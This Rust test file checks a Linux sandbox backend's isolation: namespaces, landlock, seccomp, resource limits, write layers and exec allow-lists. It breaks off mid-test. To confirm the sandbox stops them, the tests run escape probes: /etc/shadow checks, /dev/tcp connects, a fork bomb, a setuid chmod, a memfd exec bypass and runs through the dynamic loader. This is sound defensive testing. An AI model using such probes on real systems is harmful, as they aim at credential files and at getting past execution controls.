//! The `linux` backend, against the real kernel. A primitive this machine lacks fails these
//! tests (under `CI=true` and everywhere else): none is skipped.

use std::path::{Path, PathBuf};
use std::time::Duration;

use corral_exec::linux::{LinuxBackend, Network, probe};
use corral_exec::{Backend, ExecError, ExecOutput, ExecRequest, ResourceLimits};

use crate::{request, shell, with_test_pool};

const SIGKILL: i32 = 9;

/// The helper binary built from this crate (`src/bin/sandbox_helper.rs`).
fn helper() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_corral-sandbox-helper"))
}

fn backend() -> LinuxBackend {
    crate::with_test_pool(LinuxBackend::new(helper()))
}

async fn run(req: ExecRequest) -> ExecOutput {
    match backend().run(req).await {
        Ok(out) => out,
        Err(e) => panic!("the command should run in the linux backend: {e} ({e:?})"),
    }
}

fn stdout(out: &ExecOutput) -> &str {
    std::str::from_utf8(&out.stdout).expect("utf-8 stdout")
}

fn stderr(out: &ExecOutput) -> &str {
    std::str::from_utf8(&out.stderr).expect("utf-8 stderr")
}

/// What bounds a run's processes here: the pids cgroup as host root (RLIMIT_NPROC never binds
/// uid 0); for a normal user RLIMIT_NPROC in the run's user namespace, always.
fn process_limit() -> &'static str {
    if rustix::process::getuid().is_root() {
        "cgroup:pids"
    } else {
        "rlimit:nproc-userns"
    }
}

/// Whether this host gives corral's user a memory cgroup (root here does; a normal user does
/// not).
fn memory_cgroup() -> bool {
    probe()
        .iter()
        .any(|p| p.name == "cgroup:memory" && p.available)
}

/// A directory of the host that is canonical (tests compare paths the sandbox prints).
fn tempdir() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = std::fs::canonicalize(dir.path()).expect("canonical");
    (dir, path)
}

#[test]
fn preflight_passes_on_this_machine() {
    let table = probe();
    for p in &table {
        assert!(
            !p.required || p.available,
            "required primitive `{}` is missing: {}; fix: {}",
            p.name,
            p.detail,
            p.fix
        );
    }
    for name in [
        "userns", "mountns", "pidns", "netns", "ipcns", "utsns", "landlock", "seccomp",
    ] {
        assert!(table.iter().any(|p| p.name == name), "{name} is probed");
    }
    backend().preflight().expect("preflight passes here");
}

#[tokio::test]
async fn echo_runs_isolated_and_attests_every_primitive() {
    let out = run(request(&["/bin/echo", "hello"])).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    assert_eq!(stdout(&out), "hello\n");
    let a = &out.attestation;
    assert_eq!(a.backend, "linux");
    assert!(a.isolated);
    assert!(a.destroyed, "the run's state is removed and checked");
    for p in [
        "env:clear",
        "userns",
        "mountns",
        "pidns",
        "netns:none",
        "ipcns",
        "utsns",
        "pivot_root",
        "landlock:abi6",
        "seccomp",
        "no_new_privs",
        "caps:none",
        "setsid",
        "pdeathsig",
        process_limit(),
    ] {
        assert!(
            a.primitives.iter().any(|x| x == p),
            "{p} in {:?}",
            a.primitives
        );
    }
}

#[tokio::test]
async fn limits_are_attested_as_applied() {
    let mut req = request(&["/bin/true"]);
    req.limits = ResourceLimits {
        cpu_seconds: Some(5),
        memory: Some(512 * 1024 * 1024),
        processes: Some(64),
        file_size: Some(1024 * 1024),
        open_files: Some(64),
        default_memory: None,
        write_quota: None,
    };
    if !memory_cgroup() {
        // An explicit memory limit needs the memory cgroup: no weaker limit stands in for it.
        let e = backend()
            .run(req)
            .await
            .expect_err("no memory cgroup, no run");
        assert_eq!(e.code(), "isolation.unavailable");
        let msg = e.to_string();
        assert!(
            msg.contains("`memory`") && msg.contains("Delegate=yes"),
            "the refusal names the controller and the fix: {msg}"
        );
        return;
    }
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    // RLIMIT_NPROC binds nobody running as host uid 0, so it is attested only for others (host
    // root's programs too under `isolation.host_uids`), and as what it is there: a count of the
    // run's own user namespace.
    let root = rustix::process::getuid().is_root() && !crate::host_uids_apply();
    assert_eq!(
        out.attestation
            .primitives
            .iter()
            .any(|x| x == "rlimit:nproc-userns"),
        !root,
        "{:?}",
        out.attestation.primitives
    );
    assert!(
        !out.attestation
            .primitives
            .iter()
            .any(|x| x == "rlimit:nproc")
    );
    for p in [
        "rlimit:cpu",
        "rlimit:as",
        "rlimit:fsize",
        "rlimit:nofile",
        process_limit(),
        "cgroup:memory",
    ] {
        assert!(
            out.attestation.primitives.iter().any(|x| x == p),
            "{p} in {:?}",
            out.attestation.primitives
        );
    }
}

#[tokio::test]
async fn the_environment_is_exactly_the_requested_one() {
    let mut req = request(&["/usr/bin/env"]);
    req.env = vec![
        ("A".into(), "1".into()),
        ("PATH".into(), "/usr/bin:/bin".into()),
    ];
    let out = run(req).await;
    assert_eq!(stdout(&out), "A=1\nPATH=/usr/bin:/bin\n");
}

#[tokio::test]
async fn a_bare_program_name_is_found_in_the_requested_path() {
    let mut req = request(&["echo", "found"]);
    req.env = vec![("PATH".into(), "/usr/bin:/bin".into())];
    let out = run(req).await;
    assert_eq!(stdout(&out), "found\n");
}

#[tokio::test]
async fn stdin_reaches_the_target() {
    let mut req = request(&["/bin/cat"]);
    req.stdin = Some(b"from stdin".to_vec());
    let out = run(req).await;
    assert_eq!(stdout(&out), "from stdin");
}

#[tokio::test]
async fn exit_codes_come_back() {
    let out = run(shell("exit 7")).await;
    assert_eq!(out.exit_code, Some(7));
    assert_eq!(out.signal, None);
}

#[tokio::test]
async fn the_working_directory_is_the_requested_one() {
    let (_keep, dir) = tempdir();
    let mut req = request(&["/bin/pwd"]);
    req.cwd = dir.clone();
    req.read_paths = vec![dir.clone()];
    let out = run(req).await;
    assert_eq!(stdout(&out).trim_end(), dir.display().to_string());
}

#[tokio::test]
async fn write_paths_are_writable() {
    let (_keep, dir) = tempdir();
    let mut req = shell("echo written > out.txt && mkdir sub && echo more > sub/x");
    req.cwd = dir.clone();
    req.write_paths = vec![dir.clone()];
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(dir.join("out.txt")).expect("written on the host"),
        "written\n"
    );
    assert!(dir.join("sub/x").exists());
}

#[tokio::test]
async fn read_paths_are_readable_but_not_writable() {
    let (_keep, dir) = tempdir();
    std::fs::write(dir.join("data.txt"), "original").expect("write");
    let mut req = shell(
        "cat data.txt; echo; \
         if echo changed > data.txt; then echo WROTE; fi; \
         if touch new.txt; then echo CREATED; fi; \
         if rm data.txt; then echo REMOVED; fi",
    );
    req.cwd = dir.clone();
    req.read_paths = vec![dir.clone()];
    let out = run(req).await;
    let text = stdout(&out);
    assert!(text.starts_with("original"), "{text}");
    assert!(!text.contains("WROTE"), "{text}");
    assert!(!text.contains("CREATED"), "{text}");
    assert!(!text.contains("REMOVED"), "{text}");
    assert_eq!(
        std::fs::read_to_string(dir.join("data.txt")).expect("still there"),
        "original"
    );
    assert!(!dir.join("new.txt").exists());
}

#[tokio::test]
async fn a_write_path_inside_a_read_path_is_writable_and_the_rest_is_not() {
    let (_keep, dir) = tempdir();
    let out_dir = dir.join("out");
    std::fs::create_dir(&out_dir).expect("mkdir");
    let mut req = shell("echo a > out/a.txt; if echo b > b.txt; then echo WROTE; fi");
    req.cwd = dir.clone();
    req.read_paths = vec![dir.clone()];
    req.write_paths = vec![out_dir.clone()];
    let out = run(req).await;
    assert!(!stdout(&out).contains("WROTE"), "{}", stdout(&out));
    assert!(out_dir.join("a.txt").exists(), "stderr: {}", stderr(&out));
    assert!(!dir.join("b.txt").exists());
}

#[tokio::test]
async fn paths_outside_the_request_are_invisible() {
    let (_keep, secret_dir) = tempdir();
    std::fs::write(secret_dir.join("secret.txt"), "secret").expect("write");
    let (_keep2, work) = tempdir();
    let script = format!(
        "for p in {secret} /etc/shadow /root /home /var /run /sys /boot; do \
           if test -e \"$p\"; then echo \"VISIBLE $p\"; fi; \
         done; \
         cat {secret}/secret.txt 2>/dev/null; \
         echo done",
        secret = secret_dir.display()
    );
    let mut req = shell(&script);
    req.cwd = work.clone();
    req.write_paths = vec![work];
    let out = run(req).await;
    assert_eq!(stdout(&out), "done\n", "stderr: {}", stderr(&out));
}

#[tokio::test]
async fn etc_holds_only_the_allow_list() {
    let out = run(shell(
        "test -e /etc/shadow && echo SHADOW; test -e /etc/ssh && echo SSH; \
         test -e /etc/ssl/private && echo SSLPRIVATE; head -c 5 /etc/passwd",
    ))
    .await;
    assert_eq!(stdout(&out), "root:", "stderr: {}", stderr(&out));
}

#[tokio::test]
async fn the_target_is_alone_in_its_pid_namespace() {
    // pid 1 is the sandbox's init, the shell is pid 2: no host process is visible.
    let out = run(shell("ls /proc | grep -c '^[0-9]'; echo $$")).await;
    let lines: Vec<&str> = stdout(&out).lines().collect();
    assert_eq!(lines.get(1), Some(&"2"), "{}", stdout(&out));
    let count: u32 = lines.first().and_then(|s| s.parse().ok()).expect("a count");
    assert!(count <= 4, "only the sandbox's processes: {}", stdout(&out));
}

/// bash's `/dev/tcp` to a closed port of 127.0.0.1: "Network is unreachable" while `lo` is
/// down, "Connection refused" once it is up.
const CONNECT_LOCALHOST: &str = "exec 3<>/dev/tcp/127.0.0.1/9 2>&1 || true";

#[tokio::test]
async fn network_none_has_only_loopback_and_it_is_down() {
    let out = run(shell(
        "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '",
    ))
    .await;
    assert_eq!(stdout(&out), "lo\n");
    // TCP: landlock refuses the connect before routing does.
    let out = run(request(&["/bin/bash", "-c", CONNECT_LOCALHOST])).await;
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(text.contains("Permission denied"), "{text}");
    // UDP (not covered by landlock): `lo` is down, so not even 127.0.0.1 is routable.
    let out = run(request(&[
        "/bin/bash",
        "-c",
        "exec 3<>/dev/udp/127.0.0.1/9 2>&1 || true",
    ]))
    .await;
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(text.contains("unreachable"), "{text}");
    assert!(out.attestation.primitives.iter().any(|p| p == "netns:none"));
}

#[tokio::test]
async fn loopback_mode_brings_lo_up_and_nothing_else() {
    let backend = LinuxBackend::new(helper()).with_network(Network::Loopback);
    let out = backend
        .run(request(&["/bin/bash", "-c", CONNECT_LOCALHOST]))
        .await
        .expect("runs");
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(text.contains("refused"), "{text}");
    assert!(
        out.attestation
            .primitives
            .iter()
            .any(|p| p == "netns:loopback")
    );
    let out = backend
        .run(shell(
            "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '",
        ))
        .await
        .expect("runs");
    assert_eq!(stdout(&out), "lo\n");
}

#[tokio::test]
async fn the_timeout_kills_the_whole_pid_namespace() {
    let (_keep, dir) = tempdir();
    // A background child that would write a file after the timeout, if it survived.
    let mut req = shell("(sleep 2; echo late > late.txt) & sleep 30");
    req.cwd = dir.clone();
    req.write_paths = vec![dir.clone()];
    req.timeout = Duration::from_millis(300);
    let out = run(req).await;
    assert!(out.timed_out);
    assert_eq!(out.signal, Some(SIGKILL));
    assert!(out.duration < Duration::from_secs(5), "{:?}", out.duration);
    assert!(out.attestation.destroyed);
    std::thread::sleep(Duration::from_millis(2500));
    assert!(
        !dir.join("late.txt").exists(),
        "a process outlived the timeout"
    );
}

#[tokio::test]
async fn output_is_capped() {
    let mut req = shell("head -c 100000 /dev/zero");
    req.max_output_bytes = 1000;
    let out = run(req).await;
    assert_eq!(out.stdout.len(), 1000);
    assert!(out.stdout_truncated);
}

#[tokio::test]
async fn the_pids_cgroup_contains_a_fork_bomb() {
    let mut req = shell("i=0; while [ $i -lt 100 ]; do sleep 5 & i=$((i+1)); done; echo spawned");
    req.limits.processes = Some(10);
    req.timeout = Duration::from_secs(10);
    let out = run(req).await;
    assert!(
        stderr(&out).contains("fork") || stderr(&out).contains("Resource temporarily"),
        "forks beyond pids.max fail: {}",
        stderr(&out)
    );
    assert!(out.attestation.destroyed);
}

// issue 12 item 2: a normal user without any writable cgroup. RLIMIT_NPROC, inside the run's
// fresh user namespace, bounds a fork bomb (Linux 5.14+ counts it per namespace), and is attested
// as its own primitive; as root the pids cgroup does it (the test above).
#[tokio::test]
async fn a_normal_user_contains_a_fork_bomb_with_rlimit_nproc_in_the_user_namespace() {
    if rustix::process::getuid().is_root() {
        eprintln!(
            "notice: this test is for a normal user (RLIMIT_NPROC never binds root); CI runs it as one"
        );
        return;
    }
    // 40 background sleeps from an inner shell; then the outer shell counts the processes of
    // the pid namespace with a glob (a builtin: no fork is left for it to make).
    let loop_ = (1..=40)
        .map(|i| i.to_string())
        .collect::<Vec<_>>()
        .join(" ");
    let mut req = shell(&format!(
        "sh -c 'for i in {loop_}; do sleep 5 & done' 2>/dev/null; set -- /proc/[0-9]*; echo running $#"
    ));
    req.limits.processes = Some(10);
    let out = run(req).await;
    let a = &out.attestation.primitives;
    assert!(a.iter().any(|p| p == "rlimit:nproc-userns"), "{a:?}");
    let running: usize = stdout(&out)
        .trim()
        .strip_prefix("running ")
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("stdout: {} stderr: {}", stdout(&out), stderr(&out)));
    // The init, the shell and the sleeps: at most the limit (40 + 2 without one).
    assert!(
        (3..=10).contains(&running),
        "at most the limit's processes run at once: {running}"
    );
    assert!(out.attestation.destroyed);
}

// issue 11 item 5: the default memory cap binds (a 300 MiB allocation fails under a 64 MiB cap)
// and is attested as whatever enforced it: the memory cgroup where corral has one, else
// RLIMIT_AS, never the cgroup when it was the rlimit.
#[tokio::test]
async fn the_default_memory_cap_binds_and_is_attested_as_what_applied_it() {
    let script = "dd if=/dev/zero of=/dev/null bs=300M count=1 2>&1 && echo allocated";
    let out = run(shell(script)).await;
    assert!(
        stdout(&out).contains("allocated"),
        "without a cap the allocation works: {} {}",
        stdout(&out),
        stderr(&out)
    );
    let mut req = shell(script);
    req.limits.default_memory = Some(64 * 1024 * 1024);
    let out = run(req).await;
    assert!(
        !stdout(&out).contains("allocated"),
        "the cap stops it: {}",
        stdout(&out)
    );
    let a = &out.attestation.primitives;
    let (has, lacks) = if memory_cgroup() {
        ("cgroup:memory", "rlimit:as")
    } else {
        ("rlimit:as", "cgroup:memory")
    };
    assert!(a.iter().any(|p| p == has), "{has} in {a:?}");
    assert!(!a.iter().any(|p| p == lacks), "{lacks} not in {a:?}");
}

#[tokio::test]
async fn capabilities_are_gone_and_no_new_privs_is_set() {
    let out = run(shell(
        "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status",
    ))
    .await;
    let text = stdout(&out);
    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(
            text.contains(&format!("{cap}:\t0000000000000000")),
            "{cap}: {text}"
        );
    }
    assert!(text.contains("NoNewPrivs:\t1"), "{text}");
    assert!(text.contains("Seccomp:\t2"), "{text}");
}

#[tokio::test]
async fn a_missing_program_is_a_spawn_error() {
    match backend().run(request(&["/no/such/program"])).await {
        Err(ExecError::Spawn { reason, .. }) => {
            assert!(reason.contains("no such program"), "{reason}")
        }
        other => panic!("expected a spawn error, got {other:?}"),
    }
}

#[tokio::test]
async fn bad_paths_are_refused() {
    for bad in ["/", "/proc", "/sys/kernel", "/no/such/dir"] {
        let mut req = request(&["/bin/true"]);
        req.read_paths = vec![PathBuf::from(bad)];
        match backend().run(req).await {
            Err(ExecError::Invalid(_)) => {}
            other => panic!("{bad}: expected Invalid, got {other:?}"),
        }
    }
}

#[tokio::test]
async fn a_helper_that_is_not_one_is_unavailable_never_a_weaker_run() {
    let backend = LinuxBackend::new(PathBuf::from("/bin/true"));
    match backend.run(request(&["/bin/echo", "hi"])).await {
        Err(e @ ExecError::Unavailable { .. }) => {
            assert_eq!(e.code(), "isolation.unavailable");
        }
        other => panic!("expected Unavailable, got {other:?}"),
    }
    let missing = LinuxBackend::new(Path::new("/no/such/helper").to_path_buf());
    assert!(matches!(
        missing.preflight(),
        Err(ExecError::Unavailable { .. })
    ));
}

#[tokio::test]
async fn the_root_lists_only_the_views_own_entries() {
    let out = run(shell("ls -A /")).await;
    let entries: Vec<&str> = stdout(&out).lines().collect();
    for e in &entries {
        assert!(
            [
                "bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "sbin", "tmp",
                "usr"
            ]
            .contains(e),
            "unexpected `/{e}` in the view: {entries:?}"
        );
    }
    assert!(
        entries.contains(&"usr") && entries.contains(&"tmp"),
        "{entries:?}: {}",
        stderr(&out)
    );
}

#[tokio::test]
async fn a_warm_sandbox_runs_like_a_fresh_one_and_keeps_nothing_between_runs() {
    let backend = LinuxBackend::new(helper()).with_warm_pool(1);
    backend.preflight().expect("preflight passes here");
    // Long enough for the warm sandbox to have built its namespaces and base view.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let mut req = shell(
        "id -u; grep -c '^sandbox:' /etc/passwd; test -e /etc/ld.so.cache && echo cache; \
         test -e /etc/shadow || echo no-shadow; ls /etc/ssl/certs >/dev/null && echo certs; \
         echo \"$FOO\"; cat; ls -A /tmp; echo left > /tmp/left",
    );
    req.env = vec![("FOO".into(), "bar".into())];
    req.stdin = Some(b"from-stdin\n".to_vec());
    req.limits.processes = Some(16);
    let out = backend.run(req.clone()).await.expect("the warm run");
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    let expected_uid = if rustix::process::getuid().is_root() {
        "1000".to_owned()
    } else {
        rustix::process::getuid().as_raw().to_string()
    };
    assert_eq!(
        stdout(&out),
        format!("{expected_uid}\n1\ncache\nno-shadow\ncerts\nbar\nfrom-stdin\n"),
        "stderr: {}",
        stderr(&out)
    );
    for p in [
        process_limit(),
        "netns:none",
        "landlock:abi6",
        "seccomp",
        "caps:none",
    ] {
        assert!(
            out.attestation.primitives.iter().any(|x| x == p),
            "{p} in {:?}",
            out.attestation.primitives
        );
    }
    assert!(out.attestation.destroyed);
    // The next run (the refilled warm sandbox) sees nothing of the first one's /tmp.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let out = backend.run(req).await.expect("the second warm run");
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    assert!(stdout(&out).ends_with("from-stdin\n"), "{}", stdout(&out));
}

#[tokio::test]
async fn a_read_path_under_etc_gets_a_view_of_each_allowed_entry() {
    // A path of the run's own under /etc cannot be bound into the prepared (read-only) /etc
    // copy, so that run's /etc is built entry by entry: the same entries, plus the path.
    let mut req = shell(
        "ls /etc/ssl/certs >/dev/null && echo certs; test -e /etc/ld.so.cache && echo cache; \
         grep -c '^sandbox:' /etc/passwd; test -e /etc/shadow || echo no-shadow; \
         test -e /etc/hostname || echo no-hostname",
    );
    req.read_paths = vec![PathBuf::from("/etc/ssl/certs")];
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    // Under `isolation.host_uids` the program is inside root: no `sandbox` user.
    let sandbox_users = if crate::host_uids_apply() { 0 } else { 1 };
    assert_eq!(
        stdout(&out),
        format!("certs\ncache\n{sandbox_users}\nno-shadow\nno-hostname\n"),
        "stderr: {}",
        stderr(&out)
    );
}

#[tokio::test]
async fn runs_without_a_warm_pool_work_too() {
    let backend = LinuxBackend::new(helper()).with_warm_pool(0);
    let out = backend
        .run(request(&["/bin/echo", "cold"]))
        .await
        .expect("a cold run");
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    assert_eq!(stdout(&out), "cold\n");
    assert!(out.attestation.destroyed);
}

#[test]
fn concurrent_runs_on_one_backend_each_get_their_own_sandbox() {
    let backend = std::sync::Arc::new(with_test_pool(LinuxBackend::new(helper())));
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    let outs = rt.block_on(async {
        let tasks: Vec<_> = (0..8)
            .map(|i| {
                let backend = std::sync::Arc::clone(&backend);
                tokio::spawn(async move {
                    let mut req = shell(&format!(
                        "echo {i} > /tmp/me; sleep 0.2; cat /tmp/me; ls /tmp | wc -l"
                    ));
                    req.limits.processes = Some(8);
                    backend.run(req).await
                })
            })
            .collect();
        let mut outs = Vec::new();
        for t in tasks {
            outs.push(t.await.expect("task"));
        }
        outs
    });
    for (i, out) in outs.into_iter().enumerate() {
        let out = out.expect("each run runs");
        assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
        assert_eq!(stdout(&out), format!("{i}\n1\n"));
        assert!(out.attestation.destroyed);
    }
}

#[tokio::test]
async fn a_run_with_write_paths_attests_its_copy_on_write_layer_and_quota() {
    let (_keep, dir) = tempdir();
    let mut req = shell("echo x > f");
    req.cwd = dir.clone();
    req.write_paths = vec![dir.clone()];
    req.limits.write_quota = Some(8 << 20);
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "stderr: {}", stderr(&out));
    let p = &out.attestation.primitives;
    assert!(p.iter().any(|x| x == "cow:overlay"), "{p:?}");
    assert!(p.iter().any(|x| x == "quota:8388608"), "{p:?}");
    let changes = out.changes.expect("a run with a layer reports its changes");
    assert_eq!((changes.applied, changes.bytes), (1, 2));
    // Without write paths there is no layer, and nothing claims one.
    let out = run(request(&["/bin/true"])).await;
    assert!(
        !out.attestation
            .primitives
            .iter()
            .any(|x| x.starts_with("cow:") || x.starts_with("quota:")),
        "{:?}",
        out.attestation.primitives
    );
}

#[tokio::test]
async fn an_attached_run_writes_live_but_still_cannot_set_a_setuid_bit() {
    // Upstream servers keep read-write binds (their writes must be live): no layer, no quota,
    // but the seccomp filter of issue 11 item 1 holds there too.
    use tokio::io::{AsyncBufReadExt, BufReader};
    let (_keep, dir) = tempdir();
    let mut req = shell(
        "echo live > f; chmod 4755 f 2>/dev/null && echo chmod-ALLOWED || echo chmod-denied; read x",
    );
    req.cwd = dir.clone();
    req.write_paths = vec![dir.clone()];
    let backend = std::sync::Arc::new(backend());
    let (tx, rx) = tokio::sync::oneshot::channel();
    let b = std::sync::Arc::clone(&backend);
    let run = tokio::spawn(async move { b.run_attached(req, tx).await });
    let attached = rx.await.expect("the pipes are handed over");
    assert!(
        !attached
            .attestation
            .primitives
            .iter()
            .any(|x| x == "cow:overlay"),
        "an attached run claims no layer: {:?}",
        attached.attestation.primitives
    );
    let mut lines = BufReader::new(attached.stdout).lines();
    assert_eq!(
        lines.next_line().await.unwrap().as_deref(),
        Some("chmod-denied")
    );
    // Live: on the host while the process still runs.
    assert_eq!(
        std::fs::read_to_string(dir.join("f")).ok().as_deref(),
        Some("live\n")
    );
    drop(attached.stdin);
    let out = run.await.unwrap().expect("the attached run ends");
    assert!(out.changes.is_none(), "{:?}", out.changes);
}

#[tokio::test]
async fn an_attached_run_of_a_backend_with_the_attached_write_layer_applies_its_changes_at_the_end()
{
    // `corral run`'s backend: streamed pipes, and the one-shot runs' layer (issue 12 item 5).
    use tokio::io::{AsyncBufReadExt, BufReader};
    let (_keep, dir) = tempdir();
    let mut req = shell("echo layered > f; mkdir -p sub/.git; echo written; read x");
    req.cwd = dir.clone();
    req.write_paths = vec![dir.clone()];
    let backend = std::sync::Arc::new(backend().with_attached_write_layer());
    let (tx, rx) = tokio::sync::oneshot::channel();
    let b = std::sync::Arc::clone(&backend);
    let run = tokio::spawn(async move { b.run_attached(req, tx).await });
    let attached = rx.await.expect("the pipes are handed over");
    let p = &attached.attestation.primitives;
    assert!(p.iter().any(|x| x == "cow:overlay"), "{p:?}");
    let mut lines = BufReader::new(attached.stdout).lines();
    assert_eq!(lines.next_line().await.unwrap().as_deref(), Some("written"));
    // Not live: nothing on the host while the process still runs.
    assert!(!dir.join("f").exists());
    drop(attached.stdin);
    let out = run.await.unwrap().expect("the attached run ends");
    let changes = out.changes.expect("the layer reports its changes");
    assert_eq!(
        std::fs::read_to_string(dir.join("f")).ok().as_deref(),
        Some("layered\n")
    );
    assert!(!dir.join("sub/.git").exists());
    let refused: Vec<(&str, &str)> = changes
        .refused
        .iter()
        .map(|r| (r.path.as_str(), r.code.as_str()))
        .collect();
    let git = dir.join("sub/.git").display().to_string();
    assert_eq!(refused, vec![(git.as_str(), "policy.path_denied")]);
}

#[tokio::test]
async fn an_exec_allow_list_runs_the_listed_programs_and_nothing_else() {
    let (_keep, dir) = tempdir();
    let loader = loader();
    // `id` is not listed (not even in the view); a copy of a listed program in a writable directory is a new file;
    // the loader (executable, since `ls` needs it) can start neither a program that is not in
    // the view nor code in a writable (noexec) directory; a script still runs through `sh`.
    let mut req = shell(&format!(
        "ls / >/dev/null; echo ls=$?; /usr/bin/id; echo id=$?; \
         {dir}/tool; echo tool=$?; \
         {loader} /usr/bin/id; echo loader-id=$?; \
         {loader} {dir}/tool / >/dev/null; echo loader-tool=$?; \
         cp /usr/bin/ls /tmp/x 2>/dev/null; echo cp=$?; \
         echo 'echo hi' > {dir}/s.sh; sh {dir}/s.sh",
        dir = dir.display()
    ));
    std::fs::copy("/usr/bin/ls", dir.join("tool")).unwrap();
    req.write_paths = vec![dir.clone()];
    req.exec_only = Some(vec![
        PathBuf::from("/bin/sh"),
        corral_exec::linux::find_program("ls").unwrap(),
    ]);
    let out = run(req).await;
    assert_eq!(
        stdout(&out),
        "ls=0\nid=127\ntool=126\nloader-id=127\nloader-tool=127\ncp=127\nhi\n",
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("Permission denied"),
        "{}",
        stderr(&out)
    );
    assert!(
        out.attestation
            .primitives
            .iter()
            .any(|p| p.starts_with("landlock:exec-only(")),
        "{:?}",
        out.attestation.primitives
    );
}

#[tokio::test]
async fn an_exec_allow_list_without_the_program_is_a_run_that_cannot_start() {
    let mut req = request(&["/usr/bin/id"]);
    req.exec_only = Some(vec![PathBuf::from("/bin/sh")]);
    let out = backend().run(req).await;
    match out {
        Ok(o) => assert_ne!(o.exit_code, Some(0), "{o:?}"),
        Err(e) => assert!(
            matches!(e, ExecError::Spawn { .. }),
            "a program outside the list does not start: {e:?}"
        ),
    }
}

#[tokio::test]
async fn a_hold_applies_the_free_directories_and_keeps_every_other_change_for_a_person() {
    let (_keep, dir) = tempdir();
    let (_keep_hold, into) = tempdir();
    for d in ["src", "docs", "repl"] {
        std::fs::create_dir(dir.join(d)).unwrap();
    }
    std::fs::write(dir.join("old.txt"), "old").unwrap();
    std::fs::write(dir.join("repl/x"), "x").unwrap();
    let mut req = shell(
        "cd \"$W\" && echo a > src/a && echo b > docs/b && rm old.txt && mkdir new && \
         echo c > new/c && rm -rf repl && mkdir repl && echo d > repl/d && ln -s /etc/passwd link",
    );
    req.env = vec![("W".into(), dir.display().to_string())];
    req.write_paths = vec![dir.clone()];
    req.hold = Some(corral_exec::Hold {
        within: dir.clone(),
        free: vec![dir.join("src")],
        into: into.clone(),
    });
    let out = run(req).await;
    assert_eq!(out.exit_code, Some(0), "{}", stderr(&out));
    let changes = out.changes.expect("a layer's changes");
    // Applied: the free directory only.
    assert_eq!(std::fs::read_to_string(dir.join("src/a")).unwrap(), "a\n");
    assert!(!dir.join("docs/b").exists());
    assert_eq!(std::fs::read_to_string(dir.join("old.txt")).unwrap(), "old");
    assert!(!dir.join("new").exists());
    assert!(dir.join("repl/x").exists());
    assert!(std::fs::symlink_metadata(dir.join("link")).is_err());
    // Held: listed, and in the hold.
    let held: Vec<(String, String)> = changes
        .held
        .iter()
        .map(|h| {
            let rel = Path::new(&h.path).strip_prefix(&dir).unwrap();
            (rel.display().to_string(), h.kind.clone())
        })
        .collect();
    for want in [
        ("docs/b", "write"),
        ("old.txt", "delete"),
        ("new", "write"),
        ("new/c", "write"),
        ("repl", "replace"),
        ("repl/d", "write"),
        ("link", "write"),
    ] {
        assert!(
            held.contains(&(want.0.to_owned(), want.1.to_owned())),
            "{want:?} in {held:?}"
        );
    }
    assert!(!held.iter().any(|(p, _)| p.starts_with("src")), "{held:?}");
    assert_eq!(
        std::fs::read_to_string(into.join("content/docs/b")).unwrap(),
        "b\n"
    );
    assert_eq!(
        std::fs::read_to_string(into.join("content/repl/d")).unwrap(),
        "d\n"
    );
    assert_eq!(
        std::fs::read_link(into.join("content/link")).unwrap(),
        PathBuf::from("/etc/passwd")
    );
    assert!(into.join("delete/old.txt").is_file());
    assert!(into.join("delete/repl").is_file());
    assert!(!into.join("content/src").exists());
}

#[tokio::test]
async fn a_hold_that_is_not_an_empty_directory_outside_the_write_paths_is_refused() {
    let (_keep, dir) = tempdir();
    let mut req = shell("true");
    req.write_paths = vec![dir.clone()];
    req.hold = Some(corral_exec::Hold {
        within: dir.clone(),
        free: Vec::new(),
        into: dir.join("inside"),
    });
    std::fs::create_dir(dir.join("inside")).unwrap();
    match backend().run(req).await {
        Err(ExecError::Invalid(m)) => assert!(m.contains("outside the run's write paths"), "{m}"),
        other => panic!("refused: {other:?}"),
    }
}

/// The dynamic loader of this machine (executable in every run that may start a dynamic
/// program).
fn loader() -> &'static str {
    ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
        .into_iter()
        .find(|l| Path::new(l).exists())
        .expect("this machine's dynamic loader")
}

#[tokio::test]
async fn an_exec_allow_list_runs_nothing_from_a_memfd_nor_from_a_read_path() {
    let (_keep, dir) = tempdir();
    let (_keep_ro, ro) = tempdir();
    std::fs::copy("/usr/bin/id", dir.join("blob")).unwrap();
    std::fs::copy("/usr/bin/id", ro.join("tool")).unwrap();
    let python = corral_exec::linux::find_program("python3").expect("python3");
    let mut req = shell(&format!(
        r#"{py} -c 'import os
fd = os.memfd_create("x", 0); os.write(fd, open("{d}/blob","rb").read())
os.execv("/proc/self/fd/%d" % fd, ["unlisted"])' 2>/dev/null; echo memfd=$?
{loader} {ro}/tool; echo read-path=$?"#,
        py = python.display(),
        d = dir.display(),
        loader = loader(),
        ro = ro.display(),
    ));
    req.write_paths = vec![dir.clone()];
    req.read_paths = vec![ro.clone()];
